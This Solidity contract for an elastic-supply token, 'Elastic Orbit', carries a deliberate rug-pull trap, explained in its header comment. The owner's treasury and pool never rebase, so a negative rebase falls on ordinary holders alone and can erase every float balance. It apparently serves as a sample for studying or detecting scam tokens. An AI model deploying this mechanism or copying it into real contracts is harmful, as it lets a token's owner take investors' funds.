// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {EPair} from "./Pair.sol";

// Trap: an Ampleforth-like elastic supply in which pools and the treasury are "stable" and do not rebase. A contraction is bounded by 10 % of the whole supply, yet is borne by the float alone, which is smaller. Sprung by: owner.rebase(1, -100M tokens): everybody's balance is gone.
contract EElastic is Ownable {
    string public constant name = "Elastic Orbit";
    string public constant symbol = "EORB";
    uint8 public constant decimals = 18;
    uint256 private constant UNIT = 1e18;
    uint256 public floatSupply;
    uint256 public stableSupply;
    uint256 private _floatGons;
    mapping(address => uint256) private _gonBalances;
    mapping(address => uint256) private _stableBalances;
    mapping(address => bool) public isStable;
    mapping(address => mapping(address => uint256)) public allowance;
    uint256 public lastRebase;
    address public monetaryPolicy;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event LogRebase(uint256 indexed epoch, uint256 totalSupply);

    constructor() Ownable(msg.sender) {
        isStable[msg.sender] = true;
        isStable[EPair.predict(address(this))] = true;
        monetaryPolicy = msg.sender;
        _stableBalances[msg.sender] = stableSupply = 1_000_000_000 * UNIT;
        emit Transfer(address(0), msg.sender, stableSupply);
    }

    function setMonetaryPolicy(address policy) external onlyOwner {
        monetaryPolicy = policy;
    }

    function rebase(uint256 epoch, int256 supplyDelta) external returns (uint256) {
        require(msg.sender == monetaryPolicy, "only policy");
        require(block.timestamp >= lastRebase + 12 hours, "too soon");
        lastRebase = block.timestamp;
        int256 bound = int256(totalSupply() / 10);
        require(supplyDelta <= bound && supplyDelta >= -bound, "out of bounds");
        if (supplyDelta < 0) {
            uint256 cut = uint256(-supplyDelta);
            floatSupply = floatSupply > cut + UNIT ? floatSupply - cut : UNIT;
        } else {
            floatSupply += floatSupply < uint256(supplyDelta) * 10 ? floatSupply / 100 : uint256(supplyDelta) / 10;
        }
        emit LogRebase(epoch, totalSupply());
        return totalSupply();
    }

    function totalSupply() public view returns (uint256) {
        return floatSupply + stableSupply;
    }

    function balanceOf(address who) public view returns (uint256) {
        if (isStable[who]) return _stableBalances[who];
        return _floatGons == 0 ? 0 : (_gonBalances[who] * floatSupply) / _floatGons;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        _move(from, to, value);
        return true;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function _move(address from, address to, uint256 value) private {
        require(balanceOf(from) >= value, "balance");
        if (isStable[from]) {
            _stableBalances[from] -= value;
            stableSupply -= value;
        } else {
            uint256 gons = (value * _floatGons + floatSupply - 1) / floatSupply;
            if (gons > _gonBalances[from]) gons = _gonBalances[from];
            _gonBalances[from] -= gons;
            _floatGons -= gons;
            floatSupply -= value;
        }
        if (isStable[to]) {
            _stableBalances[to] += value;
            stableSupply += value;
        } else {
            uint256 gons = _floatGons == 0 || floatSupply == 0 ? value * 1e9 : (value * _floatGons) / floatSupply;
            _gonBalances[to] += gons;
            _floatGons += gons;
            floatSupply += value;
        }
        emit Transfer(from, to, value);
    }
}
